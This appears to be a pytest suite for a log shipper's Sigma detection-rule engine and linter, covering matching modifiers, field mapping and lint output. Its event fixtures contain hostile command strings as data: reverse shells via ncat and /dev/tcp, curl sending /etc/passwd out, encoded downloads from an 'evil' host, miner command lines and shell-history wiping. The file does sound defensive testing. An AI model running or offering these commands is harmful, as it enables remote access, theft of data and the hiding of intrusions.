"""The live Sigma evaluator and the rule loader, on rules written here."""

import textwrap
from pathlib import Path

from shipper.cli import main
from shipper.detect.sigma import load_rules
from shipper.model import Severity

RULE = """\
title: {title}
id: {id}
status: test
description: test rule
level: high
logsource: {{product: docker}}
tags: [attack.execution, attack.t1059.004]
detection:
{detection}
"""
IDS = [f"7a3c6f0e-0000-4000-8000-00000000000{i}" for i in range(10)]


def rule(tmp_path: Path, detection: str, name: str = "r.yml", rule_id: str = IDS[0], title: str = "t") -> Path:
    path = tmp_path / name
    path.write_text(RULE.format(title=title, id=rule_id, detection=textwrap.indent(textwrap.dedent(detection), "  ")))
    return path


def matcher(tmp_path, detection):
    rules, problems = load_rules([rule(tmp_path, detection)])
    assert problems == []
    return rules[0].matches


def test_modifiers_wildcards_lists_and_nesting(tmp_path):
    matches = matcher(tmp_path, """
        sel_name:
          process.name: [nc, 'ncat*']
        sel_args:
          process.command_line|contains|all: [' -e ', /bin/sh]
        condition: all of sel_*
    """)
    reverse = {"process": {"name": "NCAT.exe", "command_line": "ncat 127.0.0.1 4444 -e /bin/sh"}}
    assert matches(reverse)
    assert not matches({"process": {"name": "ncat", "command_line": "ncat -l 8080"}})
    assert not matches({"process": {"name": "bash", "command_line": "x -e /bin/sh"}})
    assert not matches({})


def test_startswith_endswith_re_cidr_numbers_exists(tmp_path):
    matches = matcher(tmp_path, """
        exe:
          process.executable|startswith: [/tmp/, /dev/shm/]
        lib:
          file.path|endswith: .so
        miner:
          process.command_line|re: 'stratum\\+tcp://[^ ]+:(3333|4444)'
        net:
          destination.ip|cidr: 127.0.0.0/8
          destination.port|gte: 3333
        has_hash:
          file.hash.sha256|exists: true
        condition: exe or lib or miner or net or has_hash
    """)
    assert matches({"process": {"executable": "/tmp/x"}})
    assert matches({"file": {"path": "/usr/lib/evil.SO"}})
    assert matches({"process": {"command_line": "xmrig -o stratum+tcp://pool:3333"}})
    assert not matches({"process": {"command_line": "xmrig -o stratum+tcp://pool:8080"}})
    assert matches({"destination": {"ip": "127.0.0.1", "port": 4444}})
    assert not matches({"destination": {"ip": "127.0.0.1", "port": 80}})
    assert not matches({"destination": {"ip": "10.0.0.1", "port": 4444}})
    assert matches({"file": {"hash": {"sha256": "ab"}}})
    assert not matches({"file": {"path": "/etc/passwd"}})


def test_keywords_search_the_message_and_not_negates(tmp_path):
    matches = matcher(tmp_path, """
        keywords:
          - 'Nmap scan report'
          - 'SYN Stealth Scan'
        trusted:
          container.image.name|startswith: 'scanner/'
        condition: keywords and not trusted
    """)
    assert matches({"message": "Starting... nmap scan report for 127.0.0.1"})
    assert not matches({"message": "Nmap scan report", "container": {"image": {"name": "scanner/nmap"}}})
    assert not matches({"message": "nothing here"})


def test_lists_in_documents_match_any_element(tmp_path):
    matches = matcher(tmp_path, """
        sel:
          container.security.capabilities: SYS_ADMIN
        condition: sel
    """)
    assert matches({"container": {"security": {"capabilities": ["NET_ADMIN", "SYS_ADMIN"]}}})
    assert not matches({"container": {"security": {"capabilities": ["CHOWN"]}}})


def test_rule_metadata(tmp_path):
    rules, _ = load_rules([rule(tmp_path, "sel: {a: 1}\ncondition: sel", title="Reverse shell")])
    assert (rules[0].title, rules[0].severity, rules[0].techniques) == ("Reverse shell", Severity.HIGH, ("T1059.004",))
    assert rules[0].tactics == ("execution",)


def test_lint_reports_every_problem_with_file_and_line(tmp_path, capsys):
    broken = tmp_path / "broken.yml"
    broken.write_text("title: broken\nid: " + IDS[1] + "\ndetection:\n  sel: [unclosed\n  condition: sel\n")
    rule(tmp_path, "sel:\n  process.name|containz: nc\ncondition: sel", name="modifier.yml", rule_id=IDS[2])
    rule(tmp_path, "sel: {process.name: nc}\ncondition: sel", name="a.yml", rule_id=IDS[3])
    rule(tmp_path, "sel: {process.name: ncat}\ncondition: sel", name="b.yml", rule_id=IDS[3])
    _, problems = load_rules([tmp_path])
    found = sorted(str(p) for p in problems)
    assert len(found) == 3, found
    assert found[0].startswith(f"{tmp_path / 'b.yml'}:2: id: duplicate rule id {IDS[3]}")
    assert found[1].startswith(f"{broken}:") and "not valid YAML" in found[1]
    assert found[2].startswith(f"{tmp_path / 'modifier.yml'}:10:") and "containz" in found[2]

    assert main(["rules", "lint", str(tmp_path)]) == 1
    err = capsys.readouterr()
    assert "3 problems" in err.out + err.err
    assert "containz" in err.out + err.err


def test_lint_passes_a_clean_directory(tmp_path, capsys):
    rule(tmp_path, "sel: {process.name: nc}\ncondition: sel")
    assert main(["rules", "lint", str(tmp_path)]) == 0
    assert "1 rule" in capsys.readouterr().out


def test_rules_test_shows_matches_and_why(tmp_path, capsys):
    path = rule(tmp_path, """
        selection:
          process.name: nc
        filter:
          user.name: backup
        condition: selection and not filter
    """)
    events = tmp_path / "events.jsonl"
    events.write_text('{"process": {"name": "nc"}}\n{"process": {"name": "nc"}, "user": {"name": "backup"}}\n\n'
                      '{"process": {"name": "ls"}}\n')
    assert main(["rules", "test", str(path), "--events", str(events)]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0] == f"{events}:1: MATCH  (selection=yes, filter=no)"
    assert out[1] == f"{events}:2: no match  (selection=yes, filter=yes)"
    assert out[2] == f"{events}:4: no match  (selection=no, filter=no)"
    assert out[3] == "t: 1 matching event"


def test_rules_test_names_a_bad_event_line(tmp_path, capsys):
    path = rule(tmp_path, "sel: {process.name: nc}\ncondition: sel")
    events = tmp_path / "events.jsonl"
    events.write_text('{"process": {"name": "nc"}}\n{not json\n')
    assert main(["rules", "test", str(path), "--events", str(events)]) == 2
    assert f"{events}:2: not JSON" in capsys.readouterr().err


def test_value_lists_on_one_field_match_like_their_values_one_by_one(tmp_path):
    """A value list is compiled into one set/prefix/suffix/substring test; mixed with
    `?` it falls back to the general path. Both must agree with the Sigma meaning."""
    fast = matcher(tmp_path, """
      sel:
        process.name: [nc, 'py*', '*sh', '*mine*']
      condition: sel""")
    slow = matcher(tmp_path, """
      sel:
        process.name: [nc, 'py*', '*sh', '*mine*', 'x?z']
      condition: sel""")
    for name, expected in [("NC", True), ("python3", True), ("bash", True), ("xmrminer", True),
                           ("ncat", False), ("shell", False), ("", False), (5, False)]:
        doc = {"process": {"name": name}}
        assert fast(doc) is expected, name
        assert slow(doc) is expected, name
    assert fast({"process": {"name": ["ls", "zsh"]}}) and not fast({"process": {}})
    assert slow({"process": {"name": "xyz"}}) and not fast({"process": {"name": "xyz"}})


LINUX_RULE = """\
title: {title}
id: {id}
level: medium
logsource: {logsource}
detection:
{detection}
"""


def linux_rule(tmp_path: Path, logsource: str, detection: str, name: str = "l.yml", rule_id: str = IDS[5]) -> Path:
    path = tmp_path / name
    path.write_text(LINUX_RULE.format(title=name, id=rule_id, logsource=logsource,
                                      detection=textwrap.indent(textwrap.dedent(detection), "  ")))
    return path


def test_sigmahq_field_names_are_mapped_to_ours_per_category(tmp_path):
    rules, problems = load_rules([
        linux_rule(tmp_path, "{product: linux, category: process_creation}", """
            sel: {Image|endswith: /curl, CommandLine|contains: ' -d ', ParentImage: /bin/bash}
            condition: sel""", "p.yml", IDS[5]),
        linux_rule(tmp_path, "{product: linux, category: network_connection}", """
            sel: {Initiated: 'true', DestinationPort: 4444}
            condition: sel""", "n.yml", IDS[6]),
        linux_rule(tmp_path, "{product: linux, category: file_event}", """
            sel: {TargetFilename|startswith: /etc/cron.d/}
            condition: sel""", "f.yml", IDS[7])])
    assert problems == []
    process, network, file = sorted(rules, key=lambda r: r.path.name)[::-1][0], None, None
    by_name = {r.path.name: r for r in rules}
    process, network, file = by_name["p.yml"], by_name["n.yml"], by_name["f.yml"]
    ours = {"process": {"executable": "/usr/bin/curl", "command_line": "curl -d @/etc/passwd http://x",
                        "parent": {"executable": "/bin/bash"}}}
    assert process.matches(ours)
    assert not process.matches({"Image": "/usr/bin/curl", "CommandLine": "curl -d x", "ParentImage": "/bin/bash"})
    assert network.matches({"network": {"direction": "egress"}, "destination": {"port": 4444}})
    assert not network.matches({"network": {"direction": "ingress"}, "destination": {"port": 4444}})
    assert file.matches({"file": {"path": "/etc/cron.d/job"}}) and not file.matches({"file": {"path": "/etc/x"}})


def test_windash_and_base64offset(tmp_path):
    matches = matcher(tmp_path, """
      sel_dash: {process.command_line|windash|contains: ' -enc '}
      sel_b64: {process.command_line|base64offset|contains: 'http://'}
      condition: 1 of sel_*""")
    import base64
    for dash in "-/\u2013\u2014\u2015":
        assert matches({"process": {"command_line": f"pwsh {dash}enc abc"}}), dash
    assert not matches({"process": {"command_line": "pwsh enc abc"}})
    for prefix in ("", "a", "ab"):
        encoded = base64.b64encode(f"{prefix}curl http://evil".encode()).decode()
        assert matches({"process": {"command_line": f"echo {encoded} | base64 -d"}}), prefix
    assert not matches({"process": {"command_line": "echo aGVsbG8= | base64 -d"}})


def test_a_lone_wildcard_value_matches_as_its_regex_would(tmp_path):
    contains = matcher(tmp_path, "sel: {process.command_line: '*CURL*'}\ncondition: sel")
    starts = matcher(tmp_path, "sel: {process.command_line: 'curl*'}\ncondition: sel")
    ends = matcher(tmp_path, "sel: {process.command_line: '*/curl'}\ncondition: sel")
    inner = matcher(tmp_path, "sel: {process.command_line: 'a*b'}\ncondition: sel")
    doc = lambda text: {"process": {"command_line": text}}  # noqa: E731
    assert contains(doc("x Curl y")) and not contains(doc("cur l"))
    assert starts(doc("CURL -s")) and not starts(doc("xcurl"))
    assert ends(doc("/usr/bin/curl")) and not ends(doc("/usr/bin/curl2"))
    assert inner(doc("a--B")) and not inner(doc("a--bc"))
    assert contains(doc(["ls", "curl"])) and not contains({"process": {}})


def test_rules_without_a_category_are_routed_or_ignored(tmp_path, capsys):
    from shipper.detect.engine import RulesEngine, route
    from shipper.model import Event

    keywords = linux_rule(tmp_path, "{product: linux}", "keywords: ['history -c']\ncondition: keywords",
                          "k.yml", IDS[5])
    auditd = linux_rule(tmp_path, "{product: linux, service: auditd}", "sel: {type: EXECVE}\ncondition: sel",
                        "a.yml", IDS[6])
    windows = linux_rule(tmp_path, "{product: windows, category: process_creation}",
                         "sel: {Image|endswith: /x}\ncondition: sel", "w.yml", IDS[7])
    engine = RulesEngine.from_paths([tmp_path], builtin=False)  # used to crash on a None category
    assert [rule.path for rule in engine.rules] == [keywords]
    rules, _ = load_rules([tmp_path])
    assert {rule.path: route(rule) for rule in rules} == {keywords: "container_log", auditd: None, windows: None}
    line = Event("l", "2026-11-29T00:00:00Z", "docker_logs", {"message": "$ HISTORY -C"})
    assert [v.rule_id for v in engine.judge(line).verdicts] == [IDS[5]]

    assert main(["rules", "lint", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert f"{keywords}: note: no logsource category: its keywords are searched in container log lines" in out
    assert f"{auditd}:4: logsource: warning: the shipper produces no linux/-/auditd events; the rule is ignored" in out
    assert f"{windows}:4: logsource: warning: the shipper produces no windows/process_creation/- events" in out
    assert "3 rules loaded, 2 with warnings, 0 problems" in out


def test_lint_warns_about_fields_the_category_never_carries(tmp_path, capsys):
    path = linux_rule(tmp_path, "{product: linux, category: process_creation}", """
        sel:
          Image|endswith: /su
          TargetLogonId: 0
          process.parent.name: sshd
        condition: sel""")
    assert main(["rules", "lint", str(path)]) == 0
    out = capsys.readouterr().out
    assert f"{path}:9: detection: warning: process_creation events never carry TargetLogonId; tests on it never match" in out
    assert "Image" not in out and "parent" not in out
    assert main(["rules", "lint", "shipper/rules"]) == 0
    assert "0 with warnings" in capsys.readouterr().out


def test_only_the_branches_an_executable_or_name_can_satisfy_run_and_verdicts_stay_the_same(tmp_path):
    from shipper.detect.engine import RulesEngine
    from shipper.model import Event

    path = linux_rule(tmp_path, "{product: linux, category: process_creation}", """
        sel_tool: {Image|endswith: [/curl, /wget], CommandLine|contains: http}
        sel_exact: {Image: /usr/bin/NC}
        sel_any: {CommandLine|contains: /dev/tcp/}
        filter: {User: root}
        condition: 1 of sel_* and not filter""")
    engine = RulesEngine.from_paths([path], builtin=False)
    rule = engine.rules[0]
    exe = "process.executable"
    assert sorted(sorted(keys) for keys, _ in rule.branches if keys) == [[(exe, "curl")], [(exe, "nc")], [(exe, "wget")]]
    assert [keys for keys, _ in rule.branches].count(None) == 1
    for executable in ["/usr/bin/curl", "/bin/WGET", "/usr/bin/nc", "/bin/nc", "/bin/sh", "curl", ""]:
        for command_line in ["x http://a", "sh -i >& /dev/tcp/1.2.3.4/1", "ls"]:
            for user in ["root", "app"]:
                doc = {"process": {"executable": executable, "command_line": command_line, "user": {"name": user}}}
                fired = bool(engine.judge(Event("e", "2026-11-29T00:00:00Z", "processes", doc)).verdicts)
                assert fired is rule.matches(doc), doc
    assert engine.judge(Event("e", "t", "processes", {"process": {"executable": "/usr/bin/nc"}})).verdicts


def test_rules_on_the_process_name_are_grouped_by_it(tmp_path):
    from shipper.detect.engine import RulesEngine
    from shipper.model import Event

    path = linux_rule(tmp_path, "{product: linux, category: process_creation}", """
        tool: {process.name: [nc, NMAP]}
        web: {process.name: [curl, wget], process.command_line|contains: '://localhost'}
        prefix: {process.name|startswith: xmr}
        condition: (tool or web) and not prefix""")
    engine = RulesEngine.from_paths([path], builtin=False)
    rule = engine.rules[0]
    assert sorted(key for keys, _ in rule.branches for key in keys) == [
        ("process.name", "curl"), ("process.name", "nc"), ("process.name", "nmap"), ("process.name", "wget")]
    for name in ["nc", "Nmap", "curl", "wget", "xmrig", "sh", None]:
        for executable in ["/usr/bin/curl", "/bin/nc", None]:
            for command_line in ["curl http://localhost/", "nc -l 80"]:
                process = {"name": name, "executable": executable, "command_line": command_line}
                doc = {"process": {k: v for k, v in process.items() if v is not None}}
                fired = bool(engine.judge(Event("e", "t", "processes", doc)).verdicts)
                assert fired is rule.matches(doc), doc


def test_keywords_and_message_values_in_one_or_keep_their_meanings(tmp_path):
    """Keywords search anywhere in `message`, a `message:` value matches the whole message;
    gathered into one OR they must not borrow each other's meaning."""
    matches = matcher(tmp_path, """
      keywords: ['history -c', 'ln -sf /dev/null *sh_history']
      whole: {message: ['exact line', 'rm *syslog']}
      condition: keywords or whole""")
    for message, expected in [("$ HISTORY -C now", True), ("x; ln -sf /dev/null ~/.bash_history; y", True),
                              ("exact line", True), ("an exact line", False), ("rm /var/log/syslog", True),
                              ("sudo rm /var/log/syslog", False), ("ln -sf /dev/zero .bash_history", False)]:
        assert matches({"message": message}) is expected, message
